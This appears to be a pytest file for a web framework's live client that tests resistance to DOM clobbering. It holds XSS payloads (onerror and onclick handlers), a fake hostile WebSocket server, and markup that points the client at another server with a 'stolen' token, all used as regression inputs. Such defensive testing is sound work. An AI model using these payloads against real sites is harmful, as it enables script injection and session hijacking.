"""Class 2/6 in Chromium: DOM clobbering against the live client (static/petite.js).

A document and a `<form>` expose named elements as properties that hide the built-in
ones (HTML's [LegacyOverrideBuiltIns]). Names come from data (`:name`, v-html markup
whose `name`/`id` the sanitizer keeps) or from an ordinary template (`<input
name="attributes">`). Before the client took its DOM built-ins from the prototypes:
`<img name="currentScript" data-ws=...>` in a v-html message made the client connect to
the message's server, which sent an `innerHTML` property: script ran; a control named
`attributes`, `localName` or `nextSibling` stopped the page (adoption threw); an image
named `createElement` stopped every later insert. Execution is detected by a hook
(`window.pwned`), never by reading HTML.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import httpx
import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route, WebSocketRoute

from petite.live import LiveApp
from petite.safety import LIVE_PROPERTIES

from ..support import serve

CLIENT = Path(__file__).parents[2] / "static" / "petite.js"

PAGE = """
<div v-scope>
  <form><input :name="name"><input name="static-ok"></form>
  <div v-html="msg"></div>
  <form v-for="i in items"><input :name="name"><b>{{ i }}</b></form>
  <button id="add" @click="items.push(items.length)">add</button>
</div>
"""


def _data(request):
    return {"name": request.query_params.get("name", "x"), "msg": request.query_params.get("msg", ""),
            "items": [0], "hits": []}


@pytest.fixture(scope="module")
def site():
    app = LiveApp(PAGE, data=_data)
    with serve(app) as url:
        yield url, app


def _works(chromium, url, query) -> None:
    """The page connects, a click reaches the server and its patch (a new form row,
    built from the row's skeleton) reaches the page."""
    page = chromium.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{url}/?{query}")
    page.evaluate("() => window.petite.settled()")
    page.click("#add")
    page.evaluate("() => window.petite.settled()")
    page.click("#add")
    page.evaluate("() => window.petite.settled()")
    rows = page.evaluate("Array.from(Element.prototype.querySelectorAll.call(document.body, 'form b'), b => b.textContent)")
    page.close()
    assert (rows, errors) == (["0", "1", "2"], [])


FORM_NAMES = ["attributes", "localName", "nextSibling", "firstChild", "parentNode", "nodeType", "tagName",
              "insertBefore", "appendChild", "removeChild", "remove", "setAttribute", "removeAttribute",
              "getAttribute", "cloneNode", "content", "isConnected", "addEventListener", "closest"]


@pytest.mark.parametrize("name", FORM_NAMES)
def test_a_form_control_name_from_data_does_not_stop_the_client(site, chromium, name):
    _works(chromium, site[0], f"name={name}")


DOCUMENT_NAMES = ["createElement", "createElementNS", "createTextNode", "createComment", "createDocumentFragment",
                  "currentScript", "getElementById", "activeElement", "querySelectorAll"]


@pytest.mark.parametrize("name", DOCUMENT_NAMES)
def test_a_message_naming_a_document_builtin_does_not_stop_the_client(site, chromium, name):
    markup = f'<img name="{name}"><form name="{name}"></form>'
    _works(chromium, site[0], httpx.QueryParams({"msg": markup}))


# -- a message pointing the client at another server -----------------------------------------

EVIL_INIT = {"t": "init", "tree": [1, 1, "div", [], []], "n": 0}
EVIL_OPS = [["prop", 1, "innerHTML", '<img src=x onerror="window.pwned=1">'],
            ["attr", 1, "onclick", "window.pwned=2"], ["prop", 1, "outerHTML", '<img src=x onerror="window.pwned=3">']]


def _evil_server(hello_log: list):
    """A WebSocket server that answers any hello with an init and script-running patches."""

    async def ws(socket):
        await socket.accept()
        hello_log.append(json.loads(await socket.receive_text()))
        await socket.send_text(json.dumps(EVIL_INIT))
        await socket.send_text(json.dumps({"t": "patch", "ops": EVIL_OPS, "n": 1, "re": 0}))
        try:
            while True:
                await socket.receive_text()
        except Exception:  # noqa: BLE001 - the page went away: the end of this fake server
            return

    async def page(request):  # a page of its own, for the client's own defences
        return HTMLResponse('<div id="r"></div><script src="/petite.js" data-root="r" data-token="t" '
                            'data-ws="/ws"></script>')

    async def client(request):
        return Response(CLIENT.read_text(), media_type="text/javascript")

    return Starlette(routes=[Route("/", page), Route("/petite.js", client), WebSocketRoute("/ws", ws)])


def test_a_message_cannot_send_the_client_to_another_server(site, chromium):
    hellos: list = []
    with serve(_evil_server(hellos)) as evil:
        markup = (f'<div id="r"></div><img name="currentScript" data-root="r" data-token="stolen" '
                  f'data-ws="{evil.replace("http", "ws")}/ws">')
        page = chromium.new_page()
        page.goto(f"{site[0]}/?{httpx.QueryParams({'msg': markup})}")
        page.evaluate("() => window.petite.settled()")  # connected to the page's own server
        page.click("#add")
        page.evaluate("() => window.petite.settled()")
        assert page.evaluate("window.pwned") is None
        page.close()
    assert hellos == []


def test_the_client_writes_no_handler_attribute_or_markup_property_whatever_a_server_sends(chromium):
    hellos: list = []
    with serve(_evil_server(hellos)) as evil:
        page = chromium.new_page()
        page.goto(evil)
        page.wait_for_function("() => window.petite !== undefined")
        page.evaluate("() => window.petite.settled()")
        page.evaluate("document.getElementById('r').click()")  # runs an onclick attribute, if written
        assert page.evaluate("[window.pwned, document.getElementById('r').getAttribute('onclick')]") == [None, None]
        page.close()
    assert len(hellos) == 1


def test_the_clients_property_list_is_the_servers():
    listed = re.search(r"const LIVE_PROPERTIES = new Set\(\[([^\]]*)\]\)", CLIENT.read_text())
    assert listed is not None
    assert set(re.findall(r"'([^']+)'", listed.group(1))) == LIVE_PROPERTIES


# -- recovery reads its own script's token -------------------------------------------------

def test_recovery_joins_a_new_session_of_its_own_not_one_a_message_names(chromium):
    planted: dict[str, str] = {}
    now = [0.0]
    app = LiveApp('<div v-scope><p v-html="msg"></p><button id="b" @click="n++">{{ n }}</button></div>',
                  data=lambda: {"msg": planted.get("msg", ""), "n": 0}, clock=lambda: now[0])
    with serve(app) as url:
        page = chromium.new_page()
        page.add_init_script("document.addEventListener('petite:connected', () => { window.connects = (window.connects || 0) + 1 })")
        page.goto(url)
        page.evaluate("() => window.petite.settled()")
        (victim,) = [s for s in app.sessions.values() if s.connected]
        now[0] = 1000.0  # the victim's token is old now: its session cannot be started afresh
        attacker = re.search(r'data-token="([^"]+)"', httpx.get(url).text).group(1).split(".")[0]
        planted["msg"] = f'<span data-token="{app.token(app.sessions[attacker])}"></span>'
        app.sessions.pop(victim.id)  # the victim's session is gone: its client recovers
        victim.connection.close(1012)
        page.wait_for_function("window.connects === 2", timeout=20000)
        page.evaluate("() => window.petite.settled()")
        joined = [s.id for s in app.sessions.values() if s.connected]
        page.close()
    assert len(joined) == 1 and joined[0] not in (victim.id, attacker)
